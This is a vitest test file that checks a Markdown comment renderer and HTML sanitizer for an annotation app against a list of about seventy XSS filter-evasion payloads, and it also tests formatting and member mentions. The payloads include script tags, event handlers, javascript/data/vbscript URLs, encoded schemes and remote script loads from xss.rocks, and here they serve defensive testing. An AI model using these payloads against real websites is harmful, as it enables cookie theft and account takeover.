import { Parser } from "htmlparser2";
import { describe, expect, it } from "vitest";
import {
  renderCommentMarkdown,
  renderDocumentMarkdown,
  sanitizeCommentHtml,
} from "@/lib/annotations/markdown/render-comment-markdown";

/**
 * Classic filter-evasion payloads (OWASP XSS Filter Evasion Cheat Sheet style) plus Markdown
 * specific ones: link/image/autolink/reference destinations with dangerous schemes in many
 * spellings, and mention tokens carrying markup.
 */
const XSS_PAYLOADS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  `<<SCRIPT>alert("XSS");//<</SCRIPT>`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<svg/onload=alert('XSS')>`,
  `<svg><script>alert(1)</script></svg>`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<DIV STYLE="width: expression(alert('XSS'));">x</DIV>`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=" type="image/svg+xml"></EMBED>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<TABLE BACKGROUND="javascript:alert('XSS')"><tr><td>x</td></tr></TABLE>`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button></form>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<style>@import 'http://xss.rocks/xss.css';</style>`,
  `<img src="x\`onerror=alert(1)">`,
  `\u0000<script>alert(1)</script>`,
  `<p style="background:url(javascript:alert(1))">x</p>`,
  `<a href=" javascript:alert(1)">x</a>`,
  `<a href="java&#0000010;script:alert(1)">x</a>`,
  `[click](javascript:alert(1))`,
  `[click](JaVaScRiPt:alert(1))`,
  `[click](javascript&#58;alert(1))`,
  `[click](&#x6A;avascript:alert(1))`,
  `[click](%6Aavascript:alert(1))`,
  `[click](  javascript:alert(1)  )`,
  `[click](<javascript:alert(1)>)`,
  `[click](java\nscript:alert(1))`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[click](vbscript:msgbox(1))`,
  `[click](javascript:alert(1) "title")`,
  `![x](javascript:alert(1))`,
  `![x](data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+)`,
  `<javascript:alert(1)>`,
  `<data:text/html,<script>alert(1)</script>>`,
  `[x][ref]\n\n[ref]: javascript:alert(1)`,
  `[x](https://example.com "t\\" onmouseover=\\"alert(1)")`,
  `[x](https://example.com/"onmouseover="alert(1))`,
  `[x](https://example.com' onclick='alert(1))`,
  `@[x" onmouseover="alert(1)](user:u1)`,
  `@[<img src=x onerror=alert(1)>](user:u1)`,
  `@[x](user:u1" onclick="alert(1))`,
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  `> <img src=x onerror=alert(1)>\n> - [a](javascript:alert(1))`,
  `javascript:alert(1)`,
  `www.example.com/"><script>alert(1)</script>`,
];

const ALLOWED_TAGS = new Set([
  "p",
  "br",
  "em",
  "strong",
  "s",
  "a",
  "blockquote",
  "ul",
  "ol",
  "li",
  "code",
  "pre",
  "hr",
  "span",
]);
const DANGEROUS_SCHEME = /^(?:javascript|data|vbscript):/i;

/** Parses the output as a browser would and checks every element and attribute. */
function expectSafe(html: string, extraTags: string[] = []): void {
  expect(html).not.toMatch(/<script/i);
  const problems: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!ALLOWED_TAGS.has(name) && !extraTags.includes(name)) problems.push(`tag <${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (/^on/i.test(attribute)) problems.push(`handler ${attribute}`);
        if (["src", "style", "srcset", "action", "formaction", "background"].includes(attribute))
          problems.push(`attribute ${attribute}`);
        // Browsers ignore control characters and whitespace inside a scheme.
        const squeezed = [...value].filter((char) => char.charCodeAt(0) > 0x20).join("");
        if (DANGEROUS_SCHEME.test(squeezed)) problems.push(`${attribute}="${value}"`);
      }
    },
  });
  parser.write(html);
  parser.end();
  expect(problems).toEqual([]);
}

describe("renderCommentMarkdown - XSS", () => {
  it("has a payload list of at least 40 entries", () => {
    expect(XSS_PAYLOADS.length).toBeGreaterThanOrEqual(40);
  });

  it.each(XSS_PAYLOADS.map((payload) => [payload]))(
    "renders %j without script, handlers or dangerous URLs",
    (payload) => {
      expectSafe(renderCommentMarkdown(payload));
    },
  );

  it.each(XSS_PAYLOADS.map((payload) => [payload]))(
    "the allow-list alone neutralises raw HTML %j",
    (payload) => {
      expectSafe(sanitizeCommentHtml(payload));
    },
  );

  it("the allow-list keeps a safe link and the mention class while dropping the rest", () => {
    expect(
      sanitizeCommentHtml(
        '<a href="https://ok.org" onclick="x" title="t">y</a><span class="evil mention" style="x">z</span>',
      ),
    ).toBe(
      '<a href="https://ok.org" rel="noopener nofollow ugc" target="_blank">y</a><span class="mention">z</span>',
    );
  });

  it("the checker itself catches an unsafe fragment", () => {
    expect(() => expectSafe(`<a href=" java\tscript:alert(1)">x</a>`)).toThrow();
    expect(() => expectSafe(`<span onclick="x">y</span>`)).toThrow();
    expect(() => expectSafe(`<img src="https://x">`)).toThrow();
  });
});

describe("renderCommentMarkdown - formatting", () => {
  it("renders emphasis, inline code, quotes and lists", () => {
    expect(renderCommentMarkdown("*so* **very** ~~no~~ `x < y`")).toBe(
      "<p><em>so</em> <strong>very</strong> <s>no</s> <code>x &lt; y</code></p>",
    );
    expect(renderCommentMarkdown("> quoted\n\n- a\n- b\n\n3. c")).toBe(
      '<blockquote>\n<p>quoted</p>\n</blockquote>\n<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n<ol start="3">\n<li>c</li>\n</ol>',
    );
  });

  it("opens http, https and mailto links in a new tab with rel noopener nofollow ugc", () => {
    expect(renderCommentMarkdown("[site](https://example.org/a?b=1&c=2)")).toBe(
      '<p><a href="https://example.org/a?b=1&amp;c=2" rel="noopener nofollow ugc" target="_blank">site</a></p>',
    );
    expect(renderCommentMarkdown("write to ann@example.org or see www.example.org")).toBe(
      '<p>write to <a href="mailto:ann@example.org" rel="noopener nofollow ugc" target="_blank">ann@example.org</a>' +
        ' or see <a href="http://www.example.org" rel="noopener nofollow ugc" target="_blank">www.example.org</a></p>',
    );
  });

  it("keeps relative and other-scheme links as text", () => {
    expect(renderCommentMarkdown("[home](/groups/1) [ftp](ftp://x.org/f)")).toBe(
      "<p>[home](/groups/1) [ftp](ftp://x.org/f)</p>",
    );
  });

  it("shows a heading line as text and an image as a link to it", () => {
    expect(renderCommentMarkdown("# Big")).toBe("<p># Big</p>");
    expect(renderCommentMarkdown("![cover](https://example.org/c.png)")).toBe(
      '<p>!<a href="https://example.org/c.png" rel="noopener nofollow ugc" target="_blank">cover</a></p>',
    );
  });

  it("escapes raw HTML instead of interpreting it", () => {
    expect(renderCommentMarkdown("<b>bold</b>")).toBe("<p>&lt;b&gt;bold&lt;/b&gt;</p>");
  });

  it("turns line breaks into <br>", () => {
    expect(renderCommentMarkdown("one\ntwo")).toBe("<p>one<br />\ntwo</p>");
  });

  it("renders a member's mention token as a mention span, with the member's current name", () => {
    expect(
      renderCommentMarkdown("thanks @[Ann Lee](user:u_1)!", { mentionName: () => "Ann Lee" }),
    ).toBe('<p>thanks <span class="mention" data-user-id="u_1">@Ann Lee</span>!</p>');
    expect(
      renderCommentMarkdown("@[Admin](user:u_1)", {
        mentionName: (id) => (id === "u_1" ? "Ann Lee" : undefined),
      }),
    ).toBe('<p><span class="mention" data-user-id="u_1">@Ann Lee</span></p>');
  });

  it("renders a token naming someone outside the group as plain text, not a mention", () => {
    const members = (id: string) => (id === "u_1" ? "Ann Lee" : undefined);
    expect(renderCommentMarkdown("hi @[Boss](user:not-a-member)", { mentionName: members })).toBe(
      "<p>hi @Boss</p>",
    );
    expect(renderCommentMarkdown("@[<b>x</b>](user:u_9)", { mentionName: members })).toBe(
      "<p>@&lt;b&gt;x&lt;/b&gt;</p>",
    );
    // Without a member list nobody is known to be a member.
    expect(renderCommentMarkdown("@[Ann Lee](user:u_1)")).toBe("<p>@Ann Lee</p>");
  });

  it("leaves a mention token inside code alone", () => {
    expect(renderCommentMarkdown("`@[Ann](user:u1)`")).toBe("<p><code>@[Ann](user:u1)</code></p>");
  });
});

describe("renderDocumentMarkdown (session notes and recaps)", () => {
  it("keeps headings, one level below the page's own", () => {
    expect(renderDocumentMarkdown("# Session 2\n\n## Passages\n\n### Detail")).toBe(
      "<h3>Session 2</h3>\n<h4>Passages</h4>\n<h5>Detail</h5>",
    );
  });

  it("renders emphasis and lists like a comment", () => {
    expect(renderDocumentMarkdown("**Where we landed:** here\n\n- one")).toBe(
      "<p><strong>Where we landed:</strong> here</p>\n<ul>\n<li>one</li>\n</ul>",
    );
  });

  it.each(XSS_PAYLOADS.map((payload) => [payload]))("stays safe with %s", (payload) => {
    expectSafe(renderDocumentMarkdown(payload), ["h3", "h4", "h5"]);
    expectSafe(renderDocumentMarkdown(`# ${payload}`), ["h3", "h4", "h5"]);
  });
});
